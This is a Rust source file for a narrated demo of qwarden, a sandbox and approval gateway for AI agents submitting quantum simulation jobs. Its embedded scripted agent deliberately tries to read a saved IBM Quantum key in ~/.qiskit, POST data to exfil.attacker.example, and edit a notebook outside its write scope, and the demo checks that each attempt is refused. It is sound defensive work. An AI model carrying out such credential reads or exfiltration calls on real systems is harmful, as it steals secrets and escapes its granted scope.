//! `qwarden demo`: the whole flow in about a minute, on a scratch staging workstation, narrated
//! for someone who has never seen qwarden.
//!
//! A scripted agent does legitimate work — edits code in its scope, runs a job on the local
//! simulator through the gateway, submits a second job the lab's policy holds for a human
//! approval, which the demo gives as the approver — then tries three things an agent must not
//! do (read the IBM key in `~/.qiskit`, send data to a server of its own, change a notebook
//! outside its scope). The demo ends by verifying the ledger and the held job's reproducibility
//! bundle and re-running it. Everything is real: the sandbox, the gateway, the approval (an SSH
//! signature), the ledger and the bundle; only the workstation is a temporary one.

use std::io::{BufRead as _, BufReader, Write};
use std::path::Path;
use std::process::Stdio;

use crate::lab::{Lab, LabError, summary};

/// The lab's policy: noisy simulations wait for an approver, so the gate can be seen at work.
const POLICY: &str = r#"@id("demo.noisy-simulations-need-approval")
@mode("approval")
@reason("noisy simulations are expensive in this lab: a human approves each one")
permit (principal, action == Qwarden::Action::"submit_job", resource == Qwarden::Backend::"local:noisy");
"#;

const MANIFEST: &str = r#"[filesystem]
read = ["."]
write = ["src"]

[network]
allow = ["example.org:443"]

[runtime]
spawn_processes = true

[qpu]
providers = ["local"]
backends = ["local:*"]
max_shots = 4000

[qpu.budget]
shots = 20000
jobs = 5
"#;

use crate::catalogue::LIMA;

/// The agent. Each line it prints starts with a tag the narrator explains.
const AGENT: &str = r##"import json, os, sys, time, urllib.request, urllib.error
BELL = 'OPENQASM 2.0;\ninclude "qelib1.inc";\nqreg q[2];\ncreg c[2];\nh q[0];\ncx q[0],q[1];\nmeasure q -> c;\n'
def call(method, path, body=None):
    req = urllib.request.Request(os.environ["QWARDEN_GATEWAY_URL"] + path, method=method,
        data=None if body is None else json.dumps(body).encode(),
        headers={"Authorization": "Bearer " + os.environ["QWARDEN_GATEWAY_TOKEN"], "Content-Type": "application/json"})
    try:
        with urllib.request.urlopen(req) as r:
            return r.status, json.loads(r.read())
    except urllib.error.HTTPError as e:
        return e.code, json.loads(e.read() or b"null")
def top(counts):
    return " ".join("%s:%d" % kv for kv in sorted(counts.items(), key=lambda kv: -kv[1])[:4])

# 1. Legitimate work: write code in its own scope.
with open("src/bell.qasm", "w") as f:
    f.write(BELL)
print("edit wrote src/bell.qasm", flush=True)

# 2. An ideal simulation through the gateway: runs at once.
status, job = call("POST", "/v1/jobs", {"backend": "local:statevector", "qasm": BELL, "shots": 1000, "seed": 7})
print("ideal", status, job.get("id"), top(job.get("counts", {})), flush=True)

# 3. A noisy simulation under ibm_lima's calibration: the lab's policy holds it for approval.
status, job = call("POST", "/v1/jobs", {"backend": "local:noisy", "qasm": BELL, "shots": 2000, "seed": 11,
                                        "calibration": json.load(open(sys.argv[1]))})
print("held", status, job.get("id"), job.get("approval_id"), flush=True)
deadline = time.time() + 300
while job.get("status") == "pending_approval" and time.time() < deadline:
    time.sleep(0.2)
    status, job = call("GET", "/v1/jobs/" + job["id"])
print("noisy", status, job.get("id"), top(job.get("counts", {})), flush=True)

# 4. Things an agent must not do.
try:
    print("attack-key read", open(os.path.expanduser("~/.qiskit/qiskit-ibm.json")).read()[:40], flush=True)
except OSError as e:
    print("attack-key refused:", e.strerror, flush=True)
try:
    urllib.request.urlopen(urllib.request.Request("http://exfil.attacker.example/upload", data=b"key=?", method="POST"), timeout=20)
    print("attack-exfil sent", flush=True)
except Exception as e:
    print("attack-exfil refused:", type(e).__name__, flush=True)
try:
    open("notebooks/analysis.ipynb", "a").write("# changed")
    print("attack-notebook changed", flush=True)
except OSError as e:
    print("attack-notebook refused:", e.strerror, flush=True)
"##;

fn say(out: &mut impl Write, text: &str) -> std::io::Result<()> {
    writeln!(out, "{text}")
}

/// Runs the demo with `qwarden` (this binary), narrating on `out`. Returns whether every step
/// did what the narration says.
pub fn run(qwarden: &Path, out: &mut impl Write) -> Result<bool, LabError> {
    let io = |e: std::io::Error| LabError::Setup(format!("the demo's output: {e}"));
    say(
        out,
        "qwarden demo — a guarded agent session on a scratch staging workstation\n",
    )
    .map_err(io)?;
    let lab = Lab::new(qwarden, "staging")?;
    // An approver for the lab: a key made for the demo, never readable by the agent.
    let approver = ssh_key::PrivateKey::random(&mut rand_core::OsRng, ssh_key::Algorithm::Ed25519)
        .map_err(|e| LabError::Setup(format!("the approver's key: {e}")))?;
    let approver_path = lab.root().join("approver");
    lab.write(
        &approver_path,
        &approver
            .to_openssh(ssh_key::LineEnding::LF)
            .map_err(|e| LabError::Setup(format!("the approver's key: {e}")))?,
    )?;
    std::fs::set_permissions(
        &approver_path,
        std::os::unix::fs::PermissionsExt::from_mode(0o600),
    )
    .map_err(|e| LabError::Setup(format!("the approver's key: {e}")))?;
    let profile = lab.config().join("profile.toml");
    let mut text = std::fs::read_to_string(&profile).map_err(|e| LabError::Setup(e.to_string()))?;
    text = text.replace("desktop = true", "desktop = false");
    text.push_str(&format!(
        "\n[[approvers]]\nname = \"you\"\nkey = \"{}\"\nroles = [\"approver\"]\n",
        approver
            .public_key()
            .to_openssh()
            .map_err(|e| LabError::Setup(e.to_string()))?
    ));
    lab.write(&profile, &text)?;
    lab.write(&lab.config().join("policies/demo.cedar"), POLICY)?;
    lab.write(&lab.project().join("src/agent.py"), AGENT)?;
    lab.write(&lab.project().join("src/lima.json"), LIMA)?;
    say(out, &format!(
        "  workstation  {} (tier staging; its own profile, ledger and vault)\n  canaries     a fake IBM Quantum key in ~/.qiskit, a notebook outside the agent's write scope\n  policy       noisy simulations need one human approval (you are the approver)\n",
        lab.root().display()
    ))
    .map_err(io)?;
    let manifest = lab.manifest("demo-agent", MANIFEST)?;
    say(out, "1. The agent's capability manifest is signed by its publisher; the workstation checks the\n   signature and the tier's permission matrix and grants: read the project, write src/, the local\n   simulator (4,000 shots a job), one allowed host. Its session starts in a sandbox.\n").map_err(io)?;
    let signers = lab.root().join("allowed_signers");
    let (m, s, p) = (
        manifest.to_string_lossy().into_owned(),
        signers.to_string_lossy().into_owned(),
        lab.project().to_string_lossy().into_owned(),
    );
    let mut child = lab
        .command(&[
            "run",
            "--agent",
            &m,
            "--allowed-signers",
            &s,
            "--project",
            &p,
            "--json",
            "--",
            "python3",
            "src/agent.py",
            "src/lima.json",
        ])
        .current_dir(lab.project())
        .env("QISKIT_IBM_TOKEN", &lab.canary)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .map_err(|e| LabError::Command {
            command: "run".into(),
            reason: e.to_string(),
        })?;
    let mut ok = true;
    let stdout = child
        .stdout
        .take()
        .ok_or_else(|| LabError::Setup("no agent output".into()))?;
    for line in BufReader::new(stdout).lines() {
        let line = line.map_err(io)?;
        let words: Vec<&str> = line.split_whitespace().collect();
        let text = match words.first().copied() {
            Some("edit") => "2. It edits code in its scope: wrote src/bell.qasm.".to_owned(),
            Some("ideal") => format!(
                "3. It runs a Bell circuit on the local simulator through the session's job gateway, with a\n   15-minute handle instead of a key: job {}, counts {}.",
                words.get(2).unwrap_or(&"?"),
                words.get(3..).map(|w| w.join(" ")).unwrap_or_default()
            ),
            Some("held") => {
                let request = words.get(3).copied().unwrap_or_default();
                let mut t = format!(
                    "4. It submits a noisy simulation under ibm_lima's calibration. The lab's policy holds it:\n   approval request {request} waits for you. Approving it (an SSH signature by your key):"
                );
                let key = approver_path.to_string_lossy().into_owned();
                match lab.qwarden(&["approvals", "approve", request, "--key", &key]) {
                    Ok(_) => t.push_str("\n   approved."),
                    Err(e) => {
                        ok = false;
                        t.push_str(&format!("\n   the approval failed: {e}"));
                    }
                }
                t
            }
            Some("noisy") => format!(
                "   The held job ran once approved: job {}, counts {} (noise leaks into 01/10).",
                words.get(2).unwrap_or(&"?"),
                words.get(3..).map(|w| w.join(" ")).unwrap_or_default()
            ),
            Some("attack-key") => {
                ok &= line.contains("refused");
                format!(
                    "5. It tries to read the IBM key qiskit saved in ~/.qiskit: {}",
                    if line.contains("refused") {
                        "refused (the credential guard)."
                    } else {
                        "IT GOT THROUGH."
                    }
                )
            }
            Some("attack-exfil") => {
                ok &= line.contains("refused");
                format!(
                    "   It tries to send data to exfil.attacker.example: {}",
                    if line.contains("refused") {
                        "refused (the egress proxy allows only the grant's hosts)."
                    } else {
                        "IT GOT THROUGH."
                    }
                )
            }
            Some("attack-notebook") => {
                ok &= line.contains("refused");
                format!(
                    "   It tries to change notebooks/analysis.ipynb, outside its write scope: {}",
                    if line.contains("refused") {
                        "refused (the project is read-only outside src/)."
                    } else {
                        "IT GOT THROUGH."
                    }
                )
            }
            _ => format!("   agent: {line}"),
        };
        say(out, &text).map_err(io)?;
        if line.contains(&lab.canary) {
            ok = false;
        }
    }
    let output = child.wait_with_output().map_err(io)?;
    let stderr = String::from_utf8_lossy(&output.stderr);
    let summary = summary(&stderr).ok_or_else(|| LabError::Command {
        command: "run".into(),
        reason: stderr.trim().to_owned(),
    })?;
    let session = summary
        .get("session")
        .and_then(serde_json::Value::as_str)
        .unwrap_or_default()
        .to_owned();
    let refusals = lab.recorded(&session)?;
    say(out, &format!(
        "\n6. The session ended. Everything it did is in the audit ledger: {} entries, {} refusals recorded\n   ({}).",
        summary.get("ledger_last").and_then(serde_json::Value::as_u64).unwrap_or(0) + 1
            - summary.get("ledger_first").and_then(serde_json::Value::as_u64).unwrap_or(0),
        refusals.len(),
        refusals.iter().map(|r| r.control.as_str()).collect::<Vec<_>>().join(", ")
    ))
    .map_err(io)?;
    let verified = lab.command(&["audit", "verify"]).output().map_err(io)?;
    ok &= verified.status.success();
    say(
        out,
        &format!(
            "   `qwarden audit verify`: {}",
            String::from_utf8_lossy(&verified.stdout)
                .lines()
                .last()
                .unwrap_or("(no output)")
        ),
    )
    .map_err(io)?;
    let listed = lab.qwarden(&["bundle", "list", "--json"])?;
    let bundles: serde_json::Value =
        serde_json::from_slice(&listed.stdout).unwrap_or(serde_json::Value::Null);
    let noisy = bundles
        .as_array()
        .into_iter()
        .flatten()
        .find(|b| b.get("backend").and_then(serde_json::Value::as_str) == Some("local:noisy"))
        .and_then(|b| b.get("id").and_then(serde_json::Value::as_str))
        .map(str::to_owned);
    say(out, &format!(
        "\n7. Each job left a signed reproducibility bundle ({} in all): circuit, calibration, seed,\n   environment, results and the ledger proof of its submission.",
        bundles.as_array().map_or(0, Vec::len)
    ))
    .map_err(io)?;
    match noisy {
        Some(id) => {
            let verified = lab
                .command(&["bundle", "verify", &id])
                .output()
                .map_err(io)?;
            ok &= verified.status.success();
            say(
                out,
                &format!(
                    "   `qwarden bundle verify` the approved job's bundle: {}",
                    String::from_utf8_lossy(&verified.stdout)
                        .lines()
                        .last()
                        .unwrap_or("")
                ),
            )
            .map_err(io)?;
            let rerun = lab
                .command(&["bundle", "rerun", &id])
                .output()
                .map_err(io)?;
            ok &= rerun.status.success();
            say(
                out,
                &format!(
                    "   `qwarden bundle rerun` it: {}",
                    String::from_utf8_lossy(&rerun.stdout)
                        .lines()
                        .last()
                        .unwrap_or("")
                ),
            )
            .map_err(io)?;
        }
        None => {
            ok = false;
            say(out, "   the approved job left no bundle").map_err(io)?;
        }
    }
    say(out, &format!(
        "\n{}\nNext: `qwarden redteam` runs twenty-two attacks like these in every tier; the README's tour sets up\nyour own workstation.",
        if ok {
            "Every step did what it should: legitimate work done, the gate held, attacks refused and recorded."
        } else {
            "SOMETHING DID NOT HOLD: see the steps above."
        }
    ))
    .map_err(io)?;
    Ok(ok)
}
